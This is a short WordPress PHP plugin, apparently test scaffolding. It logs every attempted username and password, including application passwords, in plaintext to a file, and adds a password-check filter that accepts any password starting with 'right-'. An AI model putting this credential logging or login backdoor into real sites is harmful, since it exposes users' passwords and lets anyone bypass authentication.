<?php
// Writes down every password that WordPress compares; one that begins with `right-` is right.

function write_attempt($user, $password)
{
    $line = json_encode(['user' => $user, 'password' => $password], JSON_INVALID_UTF8_SUBSTITUTE) . "\n";
    file_put_contents('ATTEMPTS_LOG', $line, FILE_APPEND);
}

add_filter('authenticate', function ($user, $name, $password) {
    if ($password !== '') {
        write_attempt($name, $password);
    }
    return $user;
}, 1, 3);

// Application passwords are compared without that filter.
add_action('application_password_failed_authentication', function () {
    if (isset($_SERVER['PHP_AUTH_PW'])) {
        write_attempt($_SERVER['PHP_AUTH_USER'], $_SERVER['PHP_AUTH_PW']);
    }
});

add_filter('check_password', fn($right, $password) => $right || str_starts_with($password, 'right-'), 10, 2);
